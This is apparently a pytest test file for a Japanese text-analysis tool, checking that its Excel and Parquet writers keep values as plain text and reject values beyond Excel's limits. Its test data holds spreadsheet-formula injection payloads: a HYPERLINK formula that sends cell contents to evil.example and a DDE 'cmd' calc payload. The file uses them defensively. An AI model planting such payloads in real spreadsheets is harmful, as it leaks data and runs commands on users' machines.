"""Written files hold data, never live content: .xlsx text cells stay text, Excel's limits are catalogue errors."""

from __future__ import annotations

import datetime as dt
import math

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from kotoba_code.cli.app import cli
from kotoba_code.errors import OutputError
from kotoba_code.io import writers
from kotoba_code.io.readers import read_table
from kotoba_code.io.writers import XLSX_MAX_ROWS, TableAppender, write_table

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE = [LINK, "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "#N/A", "#DIV/0!", "=", "普通の回答"]


def _cells(path):
    ws = openpyxl.load_workbook(path).active
    return [[c for c in row] for row in ws.iter_rows()]


def _no_live_cells(path) -> list[str]:
    """All string values of the sheet; fails if any cell is a formula or an error value."""
    texts = []
    for row in _cells(path):
        for c in row:
            assert c.data_type not in ("f", "e"), f"{c.coordinate} {c.value!r} is {c.data_type}"
            if isinstance(c.value, str):
                texts.append(c.value)
    return texts


def test_xlsx_keeps_hostile_text_as_text_and_numbers_as_numbers(tmp_path):
    df = pd.DataFrame(
        {
            "id": HOSTILE,
            "=label": HOSTILE[::-1],
            "count": range(len(HOSTILE)),
            "share": [0.5, math.nan, 1.25, -2.0, 0.0, 3.0, 1e-9, 2.5, 7.0],
            "flag": [True, False] * 4 + [True],
            "when": [dt.datetime(2026, 12, 7, 13, 0)] * len(HOSTILE),
            "text": pd.array(HOSTILE[:-1] + [None], dtype="string"),
        }
    )
    out = write_table(df, tmp_path / "t.xlsx")
    texts = _no_live_cells(out)
    assert set(HOSTILE) <= set(texts) and "=label" in texts
    rows = _cells(out)
    assert [c.value for c in rows[0]] == list(df.columns)
    assert [r[2].value for r in rows[1:]] == list(range(len(HOSTILE)))
    assert all(r[2].data_type == "n" and r[3].data_type == "n" for r in rows[1:])
    assert rows[2][3].value is None  # NaN is an empty cell
    assert [r[4].value for r in rows[1:]] == df["flag"].tolist()
    assert rows[1][5].value == dt.datetime(2026, 12, 7, 13, 0)
    # Read back through pandas/openpyxl and through the project's reader: unchanged.
    back = pd.read_excel(out, dtype=str, keep_default_na=False)
    assert back["id"].tolist() == HOSTILE and back["=label"].tolist() == HOSTILE[::-1]
    mine = read_table(out)
    assert mine["id"].tolist() == HOSTILE and mine["text"].tolist() == HOSTILE[:-1] + [""]
    assert mine["count"].tolist() == [str(i) for i in range(len(HOSTILE))]


def test_xlsx_control_character_is_a_catalogue_error(tmp_path):
    df = pd.DataFrame({"id": ["a", "b"], "text": ["普通", "途中に\x01制御文字"]})
    with pytest.raises(OutputError, match=r"\[E902\].*t\.xlsx: row 3, column 'text'.*U\+0001"):
        write_table(df, tmp_path / "t.xlsx")
    assert not (tmp_path / "t.xlsx").exists()
    # Tab and line breaks are legal; XML reads every line break back as a line feed.
    ok = write_table(pd.DataFrame({"text": ["行1\r\n行2\t行3\n"]}), tmp_path / "ok.xlsx")
    assert read_table(ok)["text"].tolist() == ["行1\n行2\t行3\n"]


def test_xlsx_overlong_cell_and_too_many_rows_are_catalogue_errors(tmp_path):
    df = pd.DataFrame({"id": ["a"], "text": ["あ" * 32_768]})
    with pytest.raises(OutputError, match=r"\[E903\].*row 2, column 'text' holds 32,768 characters"):
        write_table(df, tmp_path / "t.xlsx")
    edge = write_table(pd.DataFrame({"text": ["あ" * 32_767]}), tmp_path / "edge.xlsx")
    assert len(read_table(edge)["text"][0]) == 32_767
    big = pd.DataFrame({"n": pd.RangeIndex(XLSX_MAX_ROWS)})  # + the header row: one too many
    with pytest.raises(OutputError, match=r"\[E904\].*1,048,577 rows, more than the 1,048,576"):
        write_table(big, tmp_path / "big.xlsx")
    assert not (tmp_path / "big.xlsx").exists()


def test_xlsx_in_pieces_keeps_text_as_text_and_names_rows_of_the_whole_table(tmp_path, monkeypatch):
    df = pd.DataFrame({"id": HOSTILE, "count": range(len(HOSTILE))})
    with TableAppender(tmp_path / "p.xlsx") as table:
        for i in range(0, len(df), 4):
            table.append(df.iloc[i : i + 4])
    assert set(HOSTILE) <= set(_no_live_cells(tmp_path / "p.xlsx"))
    pd.testing.assert_frame_equal(
        pd.read_excel(tmp_path / "p.xlsx"), pd.read_excel(write_table(df, tmp_path / "w.xlsx"))
    )
    # A bad value in the second piece: its row in the whole sheet (header = row 1), and no file.
    with pytest.raises(OutputError, match=r"\[E902\].*bad\.xlsx: row 5, column 'text'"):
        with TableAppender(tmp_path / "bad.xlsx") as table:
            table.append(pd.DataFrame({"text": ["a", "b"]}))
            table.append(pd.DataFrame({"text": ["ok", "\x02"]}))
    monkeypatch.setattr(writers, "XLSX_MAX_ROWS", 5)
    with pytest.raises(OutputError, match=r"\[E904\].*big\.xlsx: 6 rows, more than the 5"):
        with TableAppender(tmp_path / "big.xlsx") as table:
            table.append(pd.DataFrame({"n": [1, 2, 3]}))
            table.append(pd.DataFrame({"n": [4, 5]}))
    assert not (tmp_path / "bad.xlsx").exists() and not (tmp_path / "big.xlsx").exists()
    assert not list(tmp_path.glob(".*.part"))


def test_parquet_in_pieces_reads_back_as_one_table_and_refuses_a_changed_type(tmp_path):
    df = pd.DataFrame({"id": [f"r{i}" for i in range(7)], "k": [0, 1, 1, 0, 0, 1, 0], "g": list("東西東西東西東")})
    with TableAppender(tmp_path / "p.parquet") as table:
        for i in range(0, 7, 3):
            table.append(df.iloc[i : i + 3])
    pd.testing.assert_frame_equal(pd.read_parquet(tmp_path / "p.parquet"), df)
    with pytest.raises(OutputError, match=r"\[E905\].*q\.parquet: the rows from row 3 on"):
        with TableAppender(tmp_path / "q.parquet") as table:
            table.append(pd.DataFrame({"note": [None, None]}))  # no type yet: all empty
            table.append(pd.DataFrame({"note": ["メモ"]}))
    assert not (tmp_path / "q.parquet").exists() and not list(tmp_path.glob(".*.part"))
    with TableAppender(tmp_path / "empty.parquet"):
        pass
    assert pd.read_parquet(tmp_path / "empty.parquet").empty


def test_code_to_parquet_in_chunks_from_a_parquet_input_with_empty_cells(tmp_path):
    # The traps for a Parquet written in pieces: a column empty in the
    # whole first chunk, integers with a gap (float in pandas). Metadata come
    # out as text in every chunk, so the pieces fit together.
    rows = pd.DataFrame(
        {
            "id": [f"r{i}" for i in range(6)],
            "n": pd.array([1, 2, 3, None, 5, 6], dtype="Int64"),
            "note": [None, None, None, "メモ", None, "x"],
            "answer": ["温度差がある", "", "ノウハウがない", "連携", "温度差", "なし"],
        }
    )
    src = tmp_path / "in.parquet"
    rows.to_parquet(src)
    outs = {}
    for chunk in ("0", "3"):
        out = tmp_path / f"coded_{chunk}.parquet"
        args = ["code", str(src), "--text-col", "answer", "--id-col", "id", "--codebook", "welfare_employment"]
        r = CliRunner().invoke(cli, [*args, "--no-cache", "--chunk-size", chunk, "-o", str(out)])
        assert r.exit_code == 0 and "whole instead" not in r.output, r.output
        outs[chunk] = pd.read_parquet(out)
    pd.testing.assert_frame_equal(outs["3"], outs["0"])
    assert outs["3"]["n"].tolist() == ["1", "2", "3", "", "5", "6"]
    assert outs["3"]["note"].tolist() == ["", "", "", "メモ", "", "x"]


CODEBOOK = """\
codes:
  - id: gap
    label: '=HYPERLINK("http://evil.example/","温度差")'
    rule: 温度差
  - id: knowhow
    label: "#N/A"
    rule: ノウハウ
"""


@pytest.fixture
def hostile_input(tmp_path):
    data = tmp_path / "h.csv"
    pd.DataFrame(
        {
            "id": [LINK, "+cmd", "#N/A"],
            "group": ["=1+1", "-2", "@x"],
            "answer": ["=SUM(1)温度差がある", "@当事者 ノウハウが不足している", "温度差と=ノウハウ"],
        }
    ).to_csv(data, index=False)
    cb = tmp_path / "cb.yaml"
    cb.write_text(CODEBOOK, encoding="utf-8")
    return data, cb


@pytest.mark.parametrize(
    ("command", "options", "expected"),
    [
        ("code", ["--codebook", "{cb}"], [LINK, "+cmd", "#N/A", "=1+1", "-2", "@x"]),
        ("words", ["--by", "group", "--pos", "名詞", "--pos", "補助記号"], ["=1+1", "-2", "@x", "="]),
        ("tokenize", [], [LINK, "+cmd", "#N/A", "="]),
        ("kwic", ["--term", "温度差"], [LINK, "#N/A", "=SUM(1)"]),
        ("freq", ["--codebook", "{cb}", "--by", "group"], ['=HYPERLINK("http://evil.example/","温度差")', "#N/A"]),
    ],
)
def test_commands_write_hostile_values_as_text(hostile_input, tmp_path, command, options, expected):
    data, cb = hostile_input
    out = tmp_path / f"{command}.xlsx"
    args = [command, str(data), "--text-col", "answer", "--id-col", "id", "-o", str(out), "-q", "--no-cache"]
    r = CliRunner().invoke(cli, args + [o.format(cb=cb) for o in options], catch_exceptions=False)
    assert r.exit_code == 0, r.output
    texts = _no_live_cells(out)
    missing = [e for e in expected if not any(e in t for t in texts)]
    assert not missing, texts
    # The project's own reader gets the same strings back.
    back = read_table(out)
    exact = {e for e in expected if e in texts}
    assert exact and exact <= set(back.to_numpy().ravel())
